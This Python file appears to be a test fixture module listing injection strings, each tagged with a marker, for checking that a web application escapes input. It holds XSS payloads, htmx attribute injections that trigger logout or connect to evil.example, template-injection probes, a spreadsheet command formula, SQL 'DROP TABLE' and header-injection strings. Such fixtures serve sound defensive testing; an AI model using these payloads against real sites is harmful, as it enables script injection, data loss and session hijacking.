"""Texts that would do something if a page took them for more than text. Each holds MARK, so that it can be found."""

MARK = "zq7wy"
"""So long that no random id holds it by chance."""

TAGS = (
    "<script>alert('zq7wy')</script>",
    "</script><script>alert('zq7wy')</script>",
    "<img src=x onerror=alert('zq7wy')>",
    "<svg/onload=alert('zq7wy')>",
    "<body onload=alert('zq7wy')>",
    "<iframe src=javascript:alert('zq7wy')></iframe>",
    "<a href=\"javascript:alert('zq7wy')\">tryk</a>",
    "<input autofocus onfocus=alert('zq7wy')>",
    "<details open ontoggle=alert('zq7wy')>",
    "<video><source onerror=alert('zq7wy')></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('zq7wy')>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('zq7wy')>\">",
    "<template><script>alert('zq7wy')</script></template>",
    "<style>@import '//evil.example/zq7wy.css'</style>",
    "<link rel=stylesheet href=//evil.example/zq7wy.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/zq7wy'>",
    "<base href=//evil.example/zq7wy/>",
    "<form action=//evil.example/zq7wy><button>Send</button></form>",
    "<object data=//evil.example/zq7wy></object>",
    "<embed src=//evil.example/zq7wy>",
    "<!-- zq7wy --!><img src=x onerror=alert(1)>",
    "<![CDATA[zq7wy]]><script>alert(1)</script>",
    "<scr<script>ipt>alert('zq7wy')</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/zq7wy.js></SCRIPT>",
    "<x/onclick=alert('zq7wy') tabindex=1>",
)
BREAKING_OUT = (
    '"><script>alert("zq7wy")</script>',
    "'><script>alert('zq7wy')</script>",
    '" onmouseover="alert(1)" zq7wy="',
    "' onmouseover='alert(1)' zq7wy='",
    "</textarea><script>alert('zq7wy')</script>",
    "</title><script>alert('zq7wy')</script>",
    "</option></select><img src=x onerror=alert('zq7wy')>",
    "--><script>alert('zq7wy')</script>",
    "`zq7wy`${alert(1)}",
    'zq7wy\\" onfocus=alert(1) autofocus',
    "\"/><hx-partial hx-target='body' hx-swap='innerHTML'>zq7wy</hx-partial>",
    "</hx-partial><hx-partial hx-target='#main'>zq7wy",
)
HTMX = (
    "<div hx-get='/m/zq7wy' hx-trigger='load'></div>",
    "<div data-hx-post='/logout' data-hx-trigger='load' zq7wy></div>",
    "<div hx-ws:connect='//evil.example/zq7wy'></div>",
    "<div hx-on:load='alert(1)' zq7wy></div>",
    "<p id='room'>zq7wy</p>",
    "<p id='write' data-draft='new' zq7wy>",
    "<form data-leave method=post action=/logout zq7wy>",
)
TEMPLATES = (
    "{{ 7 * 7 }}zq7wy",
    "{% for x in ().__class__.__base__.__subclasses__() %}zq7wy{% endfor %}",
    "{{ config }}zq7wy{# note #}",
    "%(name)szq7wy%s%d%%",
    "zq7wy 100% sikkert % (ja)",
    "${zq7wy}#{zq7wy}<%= zq7wy %>",
    "{n} zq7wy {total} {0}",
)
STRANGE = (
    "zq7wy\u202egnp.exe",
    "zq7wy\u0000efter",
    "zq7wy\ufeff\u200b\u2028\u2029",
    "&lt;script&gt;zq7wy&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;zq7wy",
    "\\u003cscript\\u003ezq7wy",
    "%3Cscript%3Ezq7wy%3C/script%3E",
    "＜script＞zq7wy＜/script＞",
    "javascript:alert('zq7wy')",
    "=cmd|' /C calc'!zq7wy",
    "zq7wy'; DROP TABLE idea; --",
    "zq7wy\r\nSet-Cookie: a=b",
    "𝓏𝓆𝟕zq7wy🏳️‍🌈\U0001f600",
)
ATTACKS = TAGS + BREAKING_OUT + HTMX + TEMPLATES + STRANGE
